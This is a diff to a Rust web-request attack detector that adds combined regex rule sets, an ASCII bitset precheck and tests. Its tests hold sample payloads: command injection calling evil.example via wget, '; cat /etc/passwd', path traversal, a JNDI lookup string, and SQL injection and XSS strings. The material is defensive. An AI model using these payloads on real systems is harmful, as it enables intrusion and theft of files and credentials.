@@ -104,25 +104,57 @@ pub struct Finding {
 /// Compiled rule tables. Build once and share: matching takes `&self`.
 pub struct Detector {
     enabled: [bool; 8],
-    sets: [(View, RegexSet, Vec<usize>); 3],
+    /// One set per rendering, and the unions read in one pass when renderings are the same
+    /// text (most fields: one line, no comments, no whitespace runs).
+    lower: RuleSet,
+    sql: RuleSet,
+    compact: RuleSet,
+    lower_and_sql: RuleSet,
+    every_view: RuleSet,
+}
+
+/// The rules of some renderings compiled into one set.
+struct RuleSet {
+    set: RegexSet,
+    /// Index into [`RULES`] of each pattern of the set, in table order.
+    members: Vec<usize>,
+}
+
+impl RuleSet {
+    fn new(views: &[View], enabled: &[bool; 8]) -> Self {
+        let members: Vec<usize> =
+            (0..RULES.len()).filter(|&i| views.contains(&RULES[i].view) && enabled[RULES[i].class as usize]).collect();
+        let set = RegexSetBuilder::new(members.iter().map(|&i| RULES[i].pattern))
+            .unicode(false)
+            .size_limit(64 << 20)
+            .dfa_size_limit(16 << 20)
+            .build()
+            .expect("the rule table compiles");
+        Self { set, members }
+    }
+
+    /// The first rule in table order that matches `text` and reads `source`.
+    fn first_match(&self, text: &str, source: Source) -> Option<&'static rules::Rule> {
+        // Most fields match nothing; the cheaper yes/no search settles those.
+        if !self.set.is_match(text.as_bytes()) {
+            return None;
+        }
+        self.set.matches(text.as_bytes()).iter().map(|m| &RULES[self.members[m]]).find(|rule| rule.reads(source))
+    }
 }
 
 impl Detector {
     /// A detector for the classes whose mode is not [`Mode::Off`].
     pub fn new(mode_of: impl Fn(AttackClass) -> Mode) -> Self {
         let enabled = AttackClass::ALL.map(|class| mode_of(class) != Mode::Off);
-        let set_for = |view: View| {
-            let members: Vec<usize> =
-                (0..RULES.len()).filter(|&i| RULES[i].view == view && enabled[RULES[i].class as usize]).collect();
-            let set = RegexSetBuilder::new(members.iter().map(|&i| RULES[i].pattern))
-                .unicode(false)
-                .size_limit(64 << 20)
-                .dfa_size_limit(16 << 20)
-                .build()
-                .expect("the rule table compiles");
-            (view, set, members)
-        };
-        Self { enabled, sets: [set_for(View::Lower), set_for(View::Sql), set_for(View::Compact)] }
+        Self {
+            enabled,
+            lower: RuleSet::new(&[View::Lower], &enabled),
+            sql: RuleSet::new(&[View::Sql], &enabled),
+            compact: RuleSet::new(&[View::Compact], &enabled),
+            lower_and_sql: RuleSet::new(&[View::Lower, View::Sql], &enabled),
+            every_view: RuleSet::new(&[View::Lower, View::Sql, View::Compact], &enabled),
+        }
     }
 
     fn enabled(&self, class: AttackClass, source: Source) -> bool {
@@ -136,11 +168,15 @@ impl Detector {
             return None;
         }
         let decoded = decode(raw, form);
-        if is_plain(&decoded) {
+        let chars = Ascii::of(&decoded);
+        // No ASCII letters (digits, Devanagari, phone numbers) and only harmless punctuation:
+        // nothing can carry a payload. Many real fields are like this.
+        if chars.only(Ascii::set(b"0123456789 -_,+")) {
             return None;
         }
         if self.enabled(AttackClass::HeaderInjection, source)
             && source != Source::ArgValue
+            && chars.any(Ascii::set(b"\r\n"))
             && decoded.trim_end_matches(['\r', '\n']).contains(['\r', '\n'])
         {
             return Some((AttackClass::HeaderInjection, "crlf-line-break"));
@@ -149,55 +185,96 @@ impl Detector {
         // ("style=color:red"), and its SQL tokenizer is the costliest step: run it only on text
         // with a character that can break out of a quoted or numeric context.
         if self.enabled(AttackClass::SqlInjection, source)
-            && (decoded.contains(['\'', '"', '`', '#']) || decoded.contains("--") || decoded.contains("/*"))
+            && (chars.any(Ascii::set(b"'\"`#")) || chars.contains(&decoded, "--") || chars.contains(&decoded, "/*"))
             && libinjectionrs::detect_sqli(decoded.as_bytes()).is_injection()
         {
             return Some((AttackClass::SqlInjection, "sqli-libinjection"));
         }
+        // Its XSS tokenizer flags only a tag (`<`) or an attribute value (`=`), and an attribute
+        // injected outside a tag must first close a quoted value or the tag.
         if self.enabled(AttackClass::Xss, source)
-            && decoded.contains(['<', '>', '"', '\'', '`'])
+            && (chars.any(Ascii::set(b"<")) || chars.any(Ascii::set(b"=")) && chars.any(Ascii::set(b">\"'`")))
             && libinjectionrs::detect_xss(decoded.as_bytes()).is_injection()
         {
             return Some((AttackClass::Xss, "xss-libinjection"));
         }
-        let lower = ascii_lower(&decoded);
+        self.match_rules(source, &ascii_lower(&decoded)).map(|rule| (rule.class, rule.id))
+    }
+
+    /// The first rule that matches its rendering of `lower`, reading each rendering once and
+    /// renderings that are the same text together.
+    fn match_rules(&self, source: Source, lower: &str) -> Option<&'static rules::Rule> {
+        let chars = Ascii::of(lower);
         // A bare word (a JSON key, an enum value) needs neither the tokenizers nor the compact
         // rendering, and its SQL rendering is itself (`xunionselectfrom` still is SQL).
-        let word = lower.len() <= 64 && lower.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
-        // Every Compact rule needs one of these characters.
-        let compact_needed =
-            !word && lower.contains(['<', ':', '.', '(', '[', '`', '$', '@', '!', '+', '\'', '"', '{', '=']);
+        let word = lower.len() <= 64 && chars.only(Ascii::WORD);
+        let compact_needed = !word && chars.any(Ascii::COMPACT_RULE_NEEDS);
         // The compact rendering is built from the SQL one, so comments go once.
-        let sql = if word { Cow::Borrowed(lower.as_str()) } else { sql_view(&lower) };
-        for (view, set, members) in &self.sets {
-            let text: Cow<'_, str> = match view {
-                View::Lower => Cow::Borrowed(&lower),
-                View::Sql => Cow::Borrowed(&sql),
-                View::Compact if !compact_needed => continue,
-                View::Compact => Cow::Owned(compact_view(&sql)),
-            };
-            // Most fields match nothing; the cheaper yes/no search settles those.
-            if !set.is_match(text.as_bytes()) {
-                continue;
-            }
-            let hit = set
-                .matches(text.as_bytes())
-                .iter()
-                .map(|m| &RULES[members[m]])
-                .find(|rule| rule.class.inspects(source));
-            if let Some(rule) = hit {
-                return Some((rule.class, rule.id));
-            }
-        }
-        None
+        let sql = if word { Cow::Borrowed(lower) } else { sql_view(lower, chars) };
+        let hit = if let Cow::Owned(sql) = &sql {
+            self.lower.first_match(lower, source).or_else(|| self.sql.first_match(sql, source))
+        } else if compact_needed && !chars.any(Ascii::SPACE | Ascii::CONTROL | Ascii::set(b"\\")) {
+            // The compact rendering is this text too.
+            return self.every_view.first_match(lower, source);
+        } else {
+            self.lower_and_sql.first_match(lower, source)
+        };
+        hit.or_else(|| compact_needed.then(|| self.compact.first_match(&compact_view(&sql), source)).flatten())
     }
 }
 
-/// Text that cannot carry any of the payloads: no ASCII letters (digits, Devanagari, phone
-/// numbers) and only harmless punctuation. Many real fields are like this, so this keeps the
-/// detector cheap for them.
-fn is_plain(text: &str) -> bool {
-    text.chars().all(|c| !c.is_ascii() || c.is_ascii_digit() || matches!(c, ' ' | '-' | '_' | ',' | '+'))
+/// The ASCII characters that occur in a text, found in one pass so that each of the checks
+/// above is a bit test rather than another pass.
+#[derive(Clone, Copy)]
+struct Ascii(u128);
+
+impl Ascii {
+    const WORD: u128 = Self::set(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_");
+    /// What `u8::is_ascii_whitespace` accepts.
+    const SPACE: u128 = Self::set(b" \t\n\x0c\r");
+    const CONTROL: u128 = ((1 << 32) - 1) | (1 << 127);
+    /// Every Compact rule needs one of these, but for two bare words (`json_extract`,
+    /// `-moz-binding`), which are only read in their compact form next to one of these.
+    const COMPACT_RULE_NEEDS: u128 = Self::set(b"<:.([`$@!+'\"{=");
+
+    const fn set(chars: &[u8]) -> u128 {
+        let mut set = 0;
+        let mut i = 0;
+        while i < chars.len() {
+            set |= 1 << chars[i];
+            i += 1;
+        }
+        set
+    }
+
+    fn of(text: &str) -> Self {
+        // A table lookup per byte: computing the bit (a 128-bit shift, a branch for non-ASCII)
+        // costs several times more.
+        static BIT: [u128; 256] = {
+            let mut bits = [0; 256];
+            let mut b = 0;
+            while b < 128 {
+                bits[b] = 1 << b;
+                b += 1;
+            }
+            bits
+        };
+        Self(text.bytes().fold(0, |set, b| set | BIT[usize::from(b)]))
+    }
+
+    fn any(self, set: u128) -> bool {
+        self.0 & set != 0
+    }
+
+    fn only(self, set: u128) -> bool {
+        self.0 & !set == 0
+    }
+
+    /// Whether `text` (the text this was made of) contains the two-character `pair`.
+    fn contains(self, text: &str, pair: &str) -> bool {
+        let set = Self::set(pair.as_bytes());
+        self.0 & set == set && text.contains(pair)
+    }
 }
 
 /// Lowercase ASCII rendering for the rule tables. Other characters become `x`, or a space for
@@ -205,26 +282,29 @@ fn is_plain(text: &str) -> bool {
 /// decoded, and a letter keeps word boundaries where the text had one (the `elt` in `Haßelt`
 /// is not the SQL function).
 fn ascii_lower(text: &str) -> String {
-    text.chars()
-        .map(|c| match c {
-            _ if c.is_ascii() => c.to_ascii_lowercase(),
-            // Latin-1 characters a 7-bit decoder reads as markup: `¼script¾` is `<script>`.
-            '\u{bc}' => '<',
-            '\u{be}' => '>',
-            '\u{a2}' => '"',
-            '\u{a7}' => '\'',
-            '\u{a0}'..='\u{bf}' | '\u{2000}'..='\u{206f}' => ' ',
-            _ => 'x',
-        })
-        .collect()
+    if text.is_ascii() {
+        return text.to_ascii_lowercase();
+    }
+    let mut lower = Vec::with_capacity(text.len());
+    lower.extend(text.chars().map(|c| match c {
+        _ if c.is_ascii() => c.to_ascii_lowercase() as u8,
+        // Latin-1 characters a 7-bit decoder reads as markup: `¼script¾` is `<script>`.
+        '\u{bc}' => b'<',
+        '\u{be}' => b'>',
+        '\u{a2}' => b'"',
+        '\u{a7}' => b'\'',
+        '\u{a0}'..='\u{bf}' | '\u{2000}'..='\u{206f}' => b' ',
+        _ => b'x',
+    }));
+    String::from_utf8(lower).expect("ASCII is UTF-8")
 }
 
 /// SQL comments become a space and whitespace runs one space, as a SQL parser sees them.
-fn sql_view(lower: &str) -> Cow<'_, str> {
-    let bytes = lower.as_bytes();
-    let single_spaced = !bytes.windows(2).any(|w| w[0].is_ascii_whitespace() && w[1].is_ascii_whitespace())
-        && !bytes.iter().any(|&b| b.is_ascii_whitespace() && b != b' ');
-    if single_spaced && !lower.contains("/*") && !lower.starts_with(' ') && !lower.ends_with(' ') {
+/// `chars` are those of `lower`; when the text has no comment and no whitespace but single
+/// spaces between words, it is returned as it is.
+fn sql_view(lower: &str, chars: Ascii) -> Cow<'_, str> {
+    let single_spaced = chars.only(!(Ascii::SPACE & !Ascii::set(b" "))) && !chars.contains(lower, "  ");
+    if single_spaced && !chars.contains(lower, "/*") && !lower.starts_with(' ') && !lower.ends_with(' ') {
         return Cow::Borrowed(lower);
     }
     let mut out = String::with_capacity(lower.len());
@@ -251,5 +331,83 @@ fn sql_view(lower: &str) -> Cow<'_, str> {
 /// The SQL rendering (comments already gone) without whitespace, control characters and
 /// backslashes.
 fn compact_view(sql: &str) -> String {
-    sql.chars().filter(|c| !c.is_whitespace() && !c.is_control() && *c != '\\').collect()
+    let mut compact = Vec::with_capacity(sql.len());
+    compact.extend(sql.bytes().filter(|b| !b.is_ascii_whitespace() && !b.is_ascii_control() && *b != b'\\'));
+    String::from_utf8(compact).expect("the SQL rendering is ASCII")
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    fn detector() -> Detector {
+        Detector::new(|_| Mode::Block)
+    }
+
+    fn class_of(source: Source, text: &str) -> Option<AttackClass> {
+        detector().scan(source, text, false).map(|(class, _)| class)
+    }
+
+    #[test]
+    fn a_program_name_alone_is_not_a_command_line() {
+        for text in ["regedit", "regedit ", "wget"] {
+            assert_eq!(class_of(Source::ArgValue, text), None, "{text}");
+        }
+        for text in ["regedit /s evil.reg", "time regedit ", "sudo wget", "x; regedit"] {
+            assert_eq!(class_of(Source::ArgValue, text), Some(AttackClass::CommandInjection), "{text}");
+        }
+    }
+
+    #[test]
+    fn backticks_quote_text_unless_they_run_a_command() {
+        for text in ["`foo`;`bar`;`def`", "use `size=M` or `L` in the notes"] {
+            assert_eq!(class_of(Source::ArgValue, text), None, "{text}");
+        }
+        for text in ["`id`", "x`wget evil.example/x`", "`python -c 1`"] {
+            assert_eq!(class_of(Source::ArgValue, text), Some(AttackClass::CommandInjection), "{text}");
+        }
+    }
+
+    #[test]
+    fn script_words_in_a_path_are_a_file_name() {
+        assert_eq!(class_of(Source::Path, "/get/javascript-manual/document.cookie"), None);
+        assert_eq!(class_of(Source::ArgValue, "document.cookie"), Some(AttackClass::Xss));
+        assert_eq!(class_of(Source::Path, "/x/<script>document.cookie</script>"), Some(AttackClass::Xss));
+    }
+
+    /// The rules of each rendering, each read separately: what reading renderings together
+    /// must agree with.
+    fn separately(detector: &Detector, source: Source, lower: &str) -> Option<&'static str> {
+        let sql = sql_view(lower, Ascii::of(lower));
+        let compact = Ascii::of(lower).any(Ascii::COMPACT_RULE_NEEDS).then(|| compact_view(&sql));
+        let lower_hit = detector.lower.first_match(lower, source);
+        let sql_hit = detector.sql.first_match(&sql, source);
+        let compact_hit = compact.and_then(|compact| detector.compact.first_match(&compact, source));
+        [lower_hit, sql_hit, compact_hit].into_iter().flatten().min_by_key(|rule| rule.id).map(|rule| rule.id)
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(2000))]
+        #[test]
+        fn renderings_read_together_find_what_they_find_apart(
+            payload in prop::sample::select(vec![
+                "document.cookie", "javascript:alert(1)", "<svg onload=alert(1)>", "x' or 1=1", "union select a from b",
+                "${jndi:ldap://x}", "`id`", "; cat /etc/passwd", "../../etc/passwd", "json_extract(a)", "select 1",
+                "a.innerhtml", "'a'::text", "cat food and a bash cap", "order 4512, ok.",
+            ]),
+            cuts in proptest::collection::vec((0..40usize, prop::sample::select(vec![" ", "  ", "\t", "\n", "/**/", "\\", "x"])), 0..4),
+            source in prop::sample::select(vec![Source::Path, Source::ArgValue, Source::Referer, Source::Header]),
+        ) {
+            let mut lower = payload.to_owned();
+            for (at, cut) in cuts {
+                lower.insert_str(at % (lower.len() + 1), cut);
+            }
+            static DETECTOR: std::sync::LazyLock<Detector> = std::sync::LazyLock::new(detector);
+            let together = DETECTOR.match_rules(source, &lower).map(|rule| rule.id);
+            let apart = separately(&DETECTOR, source, &lower);
+            prop_assert_eq!(together.is_some(), apart.is_some(), "{:?}: {:?} vs {:?}", lower, together, apart);
+        }
+    }
 }
